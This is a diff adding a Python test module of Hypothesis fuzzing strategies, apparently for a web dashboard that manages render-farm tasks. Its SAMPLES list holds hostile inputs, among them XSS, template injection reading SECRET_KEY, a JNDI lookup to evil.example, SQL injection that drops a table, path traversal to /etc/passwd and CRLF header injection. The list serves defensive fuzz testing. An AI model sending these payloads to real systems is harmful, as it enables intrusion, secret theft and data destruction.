@@ -1,0 +1,199 @@
+"""Hypothesis strategies for hostile input, and the suite's bounded, reproducible settings."""
+
+from __future__ import annotations
+
+import os
+from typing import Any
+from urllib.parse import quote
+
+from hypothesis import HealthCheck, settings
+from hypothesis import strategies as st
+
+from tasks_app import services
+from tasks_app.ids import ID_PATTERNS
+from tasks_app.types import TaskRunStatus
+
+#: Bounded and derandomized so CI runs the same examples every time; raise
+#: DASHBOARD_FUZZ_EXAMPLES (and set DASHBOARD_FUZZ_RANDOM=1) to explore further locally.
+FUZZ = settings(
+    max_examples=int(os.environ.get("DASHBOARD_FUZZ_EXAMPLES", "30")),
+    deadline=None,
+    derandomize=os.environ.get("DASHBOARD_FUZZ_RANDOM", "") != "1",
+    database=None,
+    print_blob=True,
+    suppress_health_check=[
+        HealthCheck.function_scoped_fixture,  # the emulator and client are reused on purpose
+        HealthCheck.too_slow,
+        HealthCheck.data_too_large,
+    ],
+)
+
+_HEX = "0123456789abcdef"
+SAMPLES = [
+    "",
+    " ",
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "javascript:alert(1)",
+    "{{ request.user }}",
+    "{% debug %}",
+    "{{ settings.SECRET_KEY }}",
+    "${jndi:ldap://evil.example/a}",
+    "' OR '1'='1' --",
+    "'; DROP TABLE auth_user; --",
+    '" OR ""="',
+    "../../../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "%2e%2e%2f%2e%2e%2f",
+    "..%2F..%2F",
+    "%252e%252e%252f",
+    "/",
+    "//evil.example/",
+    "https://evil.example/",
+    "\x00",
+    "a\x00b",
+    "%00",
+    "\r\nSet-Cookie: pwned=1",
+    "\u202etxt.exe",
+    "\ufeff",
+    "\U0001f600\u200d\U0001f4bb",
+    "-1",
+    "0",
+    "00",
+    "1e309",
+    "NaN",
+    "99999999999999999999999",
+    "%s%s%s%n",
+    "farm-" + "A" * 32,
+    "farm-" + "0" * 31,
+    "job-" + "0" * 33,
+    "task-" + "0" * 32 + "-01",
+    "task-" + "0" * 32 + "-12345678901",
+    "sessionaction-" + "0" * 32 + "-",
+    " task-" + "0" * 32 + "-0",
+    "step-" + "0" * 32 + "/../",
+]
+
+# Values a real form or link would send, so fuzzing also reaches the deep, valid paths.
+PLAUSIBLE = [
+    *(status.value for status in TaskRunStatus.known()),
+    *services.JOB_SORTS,
+    *services.TASK_SORTS,
+    *services.JOB_LIFECYCLE_STATUSES,
+    "asc",
+    "desc",
+    "25",
+    "50",
+    "100",
+    "1",
+    "2",
+    "400",
+    "401",
+    "Frame=1",
+    "1042",
+]
+
+#: Every query parameter and form field the dashboard reads (test_parameter_names_cover_*
+#: fails when a page grows a field that is not listed here).
+PARAMETERS = [
+    "v",
+    "attempt",
+    "before",
+    "after",
+    "page",
+    "per",
+    "order",
+    "sort",
+    "status",
+    "lifecycle",
+    "name",
+    "q",
+    "next",
+    "farm_id",
+    "queue_id",
+    "job_id",
+    "step_id",
+    "task_id",
+    "job_filter",
+    "task_search",
+    "task_status",
+    "shown",
+]
+
+
+def near_miss_ids() -> st.SearchStrategy[str]:
+    """Strings that look like IDs but break the pattern (case, length, index, prefix)."""
+    return st.from_regex(
+        r"(farm|queue|job|step|task|session|sessionaction|fleet|worker)-"
+        r"[0-9a-fA-F]{30,34}(-[0-9]{0,12})?",
+        fullmatch=True,
+    )
+
+
+def valid_ids() -> st.SearchStrategy[str]:
+    """Well-formed IDs of any kind that (almost surely) do not exist."""
+    return st.sampled_from(sorted(ID_PATTERNS)).flatmap(
+        lambda kind: st.from_regex(ID_PATTERNS[kind], fullmatch=True)
+    )
+
+
+def hostile_text() -> st.SearchStrategy[str]:
+    return st.one_of(
+        st.sampled_from(SAMPLES),
+        st.text(max_size=30),
+        st.builds(
+            lambda a, b, c: a + b + c,
+            st.sampled_from(SAMPLES),
+            st.text(max_size=8),
+            st.sampled_from(SAMPLES),
+        ),
+        st.integers(min_value=200, max_value=6000).map(lambda n: ("<a\u00e9'%" * n)[:n]),
+        near_miss_ids(),
+    )
+
+
+def parameter_values(real: list[str]) -> st.SearchStrategy[str]:
+    """Hostile text, plausible values and the demo world's real IDs (``real``)."""
+    return st.one_of(
+        hostile_text(),
+        st.sampled_from(PLAUSIBLE),
+        st.sampled_from(real),
+        valid_ids(),
+    )
+
+
+def query_pairs(real: list[str]) -> st.SearchStrategy[list[tuple[str, str]]]:
+    """A query string as (name, value) pairs: known names (repeated sometimes) and others."""
+    name = st.one_of(st.sampled_from(PARAMETERS), hostile_text())
+    return st.lists(st.tuples(name, parameter_values(real)), max_size=6)
+
+
+def path_segment(value: str, how: str) -> str:
+    """``value`` as a path segment: percent-encoded (slashes too), raw slashes, or twice."""
+    if how == "raw-slashes":
+        return quote(value, safe="/")
+    if how == "double":
+        return quote(quote(value, safe=""), safe="")
+    return quote(value, safe="")
+
+
+ENCODINGS = st.sampled_from(["encoded", "encoded", "raw-slashes", "double"])
+
+
+def htmx_headers(real_pages: list[str]) -> st.SearchStrategy[dict[str, Any]]:
+    """No htmx, or htmx headers as a page (or an attacker) would send them."""
+    current = st.one_of(
+        st.sampled_from(real_pages or ["/"]).map(lambda page: f"http://testserver{page}"),
+        hostile_text(),
+    )
+    htmx = st.fixed_dictionaries(
+        {"HX-Request": st.just("true")},
+        optional={
+            "HX-Trigger-Name": st.one_of(st.sampled_from(PARAMETERS), hostile_text()),
+            "HX-Current-URL": current,
+            "HX-Boosted": st.sampled_from(["true", "false"]),
+            "HX-History-Restore-Request": st.just("true"),
+            "HX-Target": hostile_text(),
+        },
+    )
+    return st.one_of(st.just({}), htmx)
